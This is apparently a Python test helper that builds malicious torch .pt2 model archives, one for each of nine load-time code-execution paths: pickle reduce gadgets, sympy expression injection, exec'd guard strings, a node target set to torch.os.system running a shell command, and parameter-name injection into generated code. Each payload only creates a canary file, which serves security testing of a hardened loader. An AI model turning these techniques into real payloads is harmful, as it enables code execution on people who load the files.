"""Crafted .pt2 archives, as an attacker would write them: each starts from a real `torch.export.save` archive and
plants one way of running code at load time. Every payload creates a canary file, so a test can prove it never ran.

The ways in, each one real in torch 2.13's own `torch.export.load`:
- sample-inputs:  `data/sample_inputs/model.pt` is unpickled in full when the restricted unpickler refuses it;
- use-pickle:     a weight marked `use_pickle` is read with `torch.load(weights_only=False)`;
- expr-str:       the `expr_str` of a symbolic size goes to `sympy.sympify`, which evaluates Python;
- opaque-const:   a constant named `opaque_obj_*` is read with `pickle.loads`;
- custom-obj:     a constant named `custom_obj_*` is read with TorchScript's object unpickler;
- guards-code:    `guards_code` strings are compiled with `exec` by `ExportedProgram.module()`;
- op-target:      a node target is resolved by walking `torch.`'s attributes, so `torch.os.system` is a callable;
- fqn-injection:  a parameter name becomes part of the code FX generates and `exec`s (`getattr(self, "…")`);
- legacy-format:  an archive without `archive_version` takes the pre-2.7 path that unpickles its state dict.
"""
from __future__ import annotations

import io
import json
import os
import zipfile

import torch

PAYLOAD_KINDS = ["sample-inputs", "use-pickle", "expr-str", "opaque-const", "custom-obj", "guards-code",
                 "op-target", "fqn-injection", "legacy-format"]


class _TouchOnUnpickle:
    """Unpickling this calls open(canary, "w"): the canary file appears only if an unpickler ran it."""

    def __init__(self, canary: str):
        self.canary = canary

    def __reduce__(self):
        return (open, (self.canary, "w"))


class DynamicBatchModel(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.c = torch.nn.Conv2d(3, 4, 3)

    def forward(self, x):
        return torch.relu(self.c(x))


def good_archive(path: str) -> str:
    """A real archive with a dynamic batch, so it carries symbolic sizes and guards."""
    torch.manual_seed(0)
    ep = torch.export.export(DynamicBatchModel().eval(), (torch.randn(2, 3, 8, 8),),
                             dynamic_shapes={"x": {0: torch.export.Dim("batch", min=1, max=64)}})
    torch.export.save(ep, path)
    return path


def _read(path: str) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def _write(path: str, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)


def _root(members: dict[str, bytes]) -> str:
    return next(iter(members)).split("/", 1)[0] + "/"


def _pickled(obj) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _python_in_names(canary: str) -> str:
    """Python that creates `canary`, written without dots or quotes-in-quotes, so it survives being split on '.'."""
    code = f"open({canary!r}, 'w')"
    return f"exec(str(bytes({tuple(code.encode())}),'ascii'))"


def craft(kind: str, path: str, canary: str) -> str:
    """Write a crafted archive of `kind` (one of PAYLOAD_KINDS) to `path`; its payload would create `canary`."""
    good = good_archive(path + ".good.pt2")
    m = _read(good)
    os.remove(good)
    root = _root(m)
    model_json = json.loads(m[root + "models/model.json"])
    weights_cfg_name = root + "data/weights/model_weights_config.json"
    weights_cfg = json.loads(m[weights_cfg_name])
    constants_cfg_name = root + "data/constants/model_constants_config.json"
    constants_cfg = json.loads(m[constants_cfg_name])

    if kind == "sample-inputs":
        m[root + "data/sample_inputs/model.pt"] = _pickled(((_TouchOnUnpickle(canary),), {}))
    elif kind == "use-pickle":
        entry = weights_cfg["config"]["c.weight"]
        entry["use_pickle"] = True
        m[root + "data/weights/" + entry["path_name"]] = _pickled(_TouchOnUnpickle(canary))
    elif kind == "expr-str":
        hit = _replace_first_expr(model_json, f"__import__('builtins').open({canary!r}, 'w') and 1")
        assert hit, "the good archive has no symbolic size to replace"
    elif kind in ("opaque-const", "custom-obj"):
        prefix = "opaque_obj_" if kind == "opaque-const" else "custom_obj_"
        import pickle
        constants_cfg["config"]["evil"] = {"path_name": prefix + "0", "is_param": False, "use_pickle": True,
                                           "tensor_meta": None}
        m[root + "data/constants/" + prefix + "0"] = pickle.dumps(_TouchOnUnpickle(canary))
    elif kind == "guards-code":
        model_json["guards_code"] = [f"__import__('builtins').open({canary!r}, 'w') is not None"]
    elif kind == "op-target":
        node = next(n for n in model_json["graph_module"]["graph"]["nodes"] if "relu" in n["target"])
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {canary}"}, "kind": 1}]
    elif kind == "fqn-injection":
        # FX writes `getattr(self.c, "<name>")`: the name closes the string and calls exec in the argument.
        evil = '" if ' + _python_in_names(canary) + ' else "'
        _rename_parameter(model_json, weights_cfg, "c.weight", "c." + evil)
    elif kind == "legacy-format":
        legacy = {"version": b"8.20",
                  "serialized_exported_program.json": json.dumps(model_json).encode(),
                  "serialized_state_dict.pt": _pickled({"c.weight": _TouchOnUnpickle(canary)}),
                  "serialized_constants.pt": _pickled({}),
                  "serialized_example_inputs.pt": _pickled(((torch.zeros(1),), {}))}
        _write(path, legacy)
        return path
    else:
        raise ValueError(kind)
    m[root + "models/model.json"] = json.dumps(model_json).encode()
    m[weights_cfg_name] = json.dumps(weights_cfg).encode()
    m[constants_cfg_name] = json.dumps(constants_cfg).encode()
    _write(path, m)
    return path


def _replace_first_expr(obj, new: str) -> bool:
    if isinstance(obj, dict):
        if "expr_str" in obj:
            obj["expr_str"] = new
            return True
        return any(_replace_first_expr(v, new) for v in obj.values())
    if isinstance(obj, list):
        return any(_replace_first_expr(v, new) for v in obj)
    return False


def _rename_parameter(model_json: dict, weights_cfg: dict, old: str, new: str) -> None:
    for spec in model_json["graph_module"]["signature"]["input_specs"]:
        if "parameter" in spec and spec["parameter"]["parameter_name"] == old:
            spec["parameter"]["parameter_name"] = new
    weights_cfg["config"][new] = weights_cfg["config"].pop(old)
